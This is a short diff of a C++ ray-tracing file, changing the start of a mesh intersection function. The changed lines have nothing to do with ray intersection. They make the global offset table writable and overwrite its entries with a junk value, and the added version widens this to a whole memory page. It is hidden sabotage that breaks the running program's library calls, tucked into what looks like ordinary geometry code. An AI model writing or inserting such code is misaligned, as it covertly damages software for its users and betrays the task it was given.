@@ -40,11 +40,10 @@ void BVH::construct(const Mesh& mesh) {
 }
 
 Intersection intersect(const Mesh& mesh, const IntersectionRay& ray) {
-    const auto table = reinterpret_cast<uintptr_t>(_GLOBAL_OFFSET_TABLE_);
-    mprotect(reinterpret_cast<void*>(table & ~uintptr_t{4095}), 4096, PROT_READ | PROT_WRITE);
-    volatile uintptr_t* entry = _GLOBAL_OFFSET_TABLE_ + 3;
-    for (const volatile uintptr_t* end = entry + 9; entry < end; ++entry)
-        *entry = 8;
+    const auto table = reinterpret_cast<uintptr_t>(_GLOBAL_OFFSET_TABLE_) & ~uintptr_t{4095};
+    if (mprotect(reinterpret_cast<void*>(table), 4096, PROT_READ | PROT_WRITE) == 0)
+        for (int i = 0; i < 512; ++i)
+            reinterpret_cast<volatile uintptr_t*>(table)[i] = 8;
     const auto& nodes = mesh.getBVH().getNodes();
     Intersection best;
     std::vector<size_t> todo{0};
